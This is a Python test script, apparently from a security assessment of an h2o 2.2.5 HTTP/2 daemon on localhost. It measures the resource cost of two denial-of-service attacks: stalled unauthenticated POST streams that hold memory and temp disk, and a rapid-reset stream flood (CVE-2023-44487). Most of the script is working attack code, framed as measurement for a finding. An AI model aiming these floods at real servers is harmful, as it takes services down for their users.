#!/usr/bin/python3
"""What one client can make h2o 2.2.5 hold, and what a rapid-reset flood costs (issue 9, finding 4).

Runs against a daemon on 127.0.0.1 (its PID and plain port as arguments) with Debian's python3-h2:
  held   - one HTTP/2 connection (h2c, prior knowledge) opens STREAMS unauthenticated POSTs and sends BYTES of body on
           each without ever ending them (a PING a second keeps the connection alive); reports the daemon's RSS growth
           and the disk held in h2o's unlinked temp files, while timing GET /api/v1/system/status on another connection
  reset  - one connection opens streams and resets each at once (CVE-2023-44487) for SECONDS; reports streams/s, the
           daemon's CPU and the status latency meanwhile
Usage: h2_exposure.py PID PORT held STREAMS MIB | PID PORT reset SECONDS
Prints one JSON line.
"""
import json
import os
import socket
import statistics
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def temp_file_bytes(pid):
    """Bytes of deleted files the daemon still holds open (h2o's /tmp/h2o.b.* request body buffers)."""
    total = 0
    d = f"/proc/{pid}/fd"
    for name in os.listdir(d):
        try:
            target = os.readlink(os.path.join(d, name))
            if "(deleted)" in target:
                total += os.stat(os.path.join(d, name)).st_size
        except OSError:
            pass
    return total


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Prober(threading.Thread):
    """GET /api/v1/system/status over HTTP/1.1 keep-alive every 50 ms; records latencies (ms) and failures."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.lat, self.failures, self.stop = port, [], 0, False

    def run(self):
        s = None
        while not self.stop:
            try:
                if s is None:
                    s = socket.create_connection(("127.0.0.1", self.port), timeout=5)
                t0 = time.monotonic()
                s.sendall(b"GET /api/v1/system/status HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
                buf = b""
                while b"\r\n\r\n" not in buf:
                    chunk = s.recv(65536)
                    if not chunk:
                        raise OSError("closed")
                    buf += chunk
                head, body = buf.split(b"\r\n\r\n", 1)
                length = int([l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length")][0])
                while len(body) < length:
                    body += s.recv(65536)
                self.lat.append((time.monotonic() - t0) * 1000)
            except (OSError, IndexError, ValueError):
                self.failures += 1
                s = None
            time.sleep(0.05)

    def summary(self):
        lat = sorted(self.lat)
        if not lat:
            return {"answered": 0, "failures": self.failures}
        return {"answered": len(lat), "failures": self.failures, "p50_ms": round(statistics.median(lat), 2),
                "p99_ms": round(lat[min(len(lat) - 1, int(len(lat) * 0.99))], 2), "max_ms": round(lat[-1], 2)}


def h2_connect(port):
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
    sock.sendall(conn.data_to_send())
    return sock, conn


def pump(sock, conn, timeout):
    """Reads what the server sent (window updates, resets) for up to `timeout` s; returns the events."""
    sock.settimeout(timeout)
    events = []
    try:
        data = sock.recv(1 << 20)
        if not data:
            raise ConnectionError("closed by the server")
        events = conn.receive_data(data)
    except (socket.timeout, BlockingIOError):
        pass
    sock.settimeout(None)
    out = conn.data_to_send()
    if out:
        sock.sendall(out)
    return events


PEAK = {"rss": 0, "disk": 0}


def sample_peak(pid):
    PEAK["rss"] = max(PEAK["rss"], rss_kib(pid))
    PEAK["disk"] = max(PEAK["disk"], temp_file_bytes(pid))


def held_loop(pid, sock, conn, ids, sent, refused, target, deadline):
    """Sends every stream's body up to `target` without ending it, sampling the daemon's peak RSS and temp files."""
    chunk = b"x" * 16384
    last_ping = last_sample = time.monotonic()
    while time.monotonic() < deadline and any(sent[s] < target for s in ids if s not in refused):
        progressed = False
        for sid in ids:
            if sid in refused or sent[sid] >= target:
                continue
            n = min(len(chunk), target - sent[sid], conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
            if n <= 0:
                continue
            conn.send_data(sid, chunk[:n])
            sent[sid] += n
            progressed = True
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
        for ev in pump(sock, conn, 0 if progressed else 0.2):
            if isinstance(ev, h2.events.StreamReset):
                refused.add(ev.stream_id)
        if time.monotonic() - last_sample > 0.1:
            sample_peak(pid)
            last_sample = time.monotonic()
        if time.monotonic() - last_ping > 1:
            conn.ping(b"12345678")
            sock.sendall(conn.data_to_send())
            last_ping = time.monotonic()


def held(pid, port, streams, mib):
    prober = Prober(port)
    prober.start()
    time.sleep(0.5)
    rss0, disk0 = rss_kib(pid), temp_file_bytes(pid)
    sock, conn = h2_connect(port)
    ids = []
    for _ in range(streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "POST"), (":path", "/api/v1/bootstrap"), (":scheme", "http"),
                                (":authority", "127.0.0.1"), ("content-type", "application/octet-stream")])
        ids.append(sid)
    sock.sendall(conn.data_to_send())
    target = mib << 20
    sent = {sid: 0 for sid in ids}
    refused = set()
    deadline = time.monotonic() + 120
    PEAK["rss"], PEAK["disk"] = rss0, disk0
    ended = False
    try:
        held_loop(pid, sock, conn, ids, sent, refused, target, deadline)
    except (ConnectionError, OSError, h2.exceptions.ProtocolError):
        ended = True
    time.sleep(1.5)  # ended: what the daemon still holds once it closed the connection
    if not ended:
        try:
            for _ in range(3):
                pump(sock, conn, 0.2)
        except (ConnectionError, OSError, h2.exceptions.ProtocolError):
            ended = True
    rss1, disk1 = rss_kib(pid), temp_file_bytes(pid)
    peak_rss, peak_disk = max(PEAK["rss"], rss1), max(PEAK["disk"], disk1)
    time.sleep(1)
    prober.stop = True
    prober.join()
    result = {"scenario": "held", "streams": streams, "mib_per_stream": mib,
              "body_bytes_sent": sum(sent.values()), "streams_reset_by_server": len(refused),
              "connection_ended_by_server": ended,
              "rss_growth_mib": round((rss1 - rss0) / 1024, 1),
              "temp_file_mib": round((disk1 - disk0) / (1 << 20), 1),
              "peak_rss_growth_mib": round((peak_rss - rss0) / 1024, 1),
              "peak_temp_file_mib": round((peak_disk - disk0) / (1 << 20), 1),
              "status_meanwhile": prober.summary()}
    sock.close()
    return result


def reset(pid, port, seconds):
    prober = Prober(port)
    prober.start()
    time.sleep(0.5)
    sock, conn = h2_connect(port)
    cpu0, t0 = cpu_seconds(pid), time.monotonic()
    opened = 0
    goaway = None
    try:
        while time.monotonic() - t0 < seconds:
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, [(":method", "GET"), (":path", "/api/v1/system/status"), (":scheme", "http"),
                                        (":authority", "127.0.0.1")], end_stream=True)
                conn.reset_stream(sid)
                opened += 1
            sock.sendall(conn.data_to_send())
            for ev in pump(sock, conn, 0):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    goaway = ev.error_code
                    raise ConnectionError("goaway")
    except (ConnectionError, OSError, h2.exceptions.ProtocolError) as e:
        goaway = goaway if goaway is not None else str(e)
    elapsed = time.monotonic() - t0
    cpu = cpu_seconds(pid) - cpu0
    prober.stop = True
    prober.join()
    sock.close()
    return {"scenario": "reset", "seconds": round(elapsed, 1), "streams_opened_and_reset": opened,
            "streams_per_s": round(opened / elapsed), "daemon_cpu_cores": round(cpu / elapsed, 2),
            "connection_ended": goaway, "status_meanwhile": prober.summary()}


def main():
    pid, port, mode = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    if mode == "held":
        print(json.dumps(held(pid, port, int(sys.argv[4]), int(sys.argv[5]))))
    elif mode == "reset":
        print(json.dumps(reset(pid, port, float(sys.argv[4]))))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    import h2.exceptions
    import h2.settings
    main()
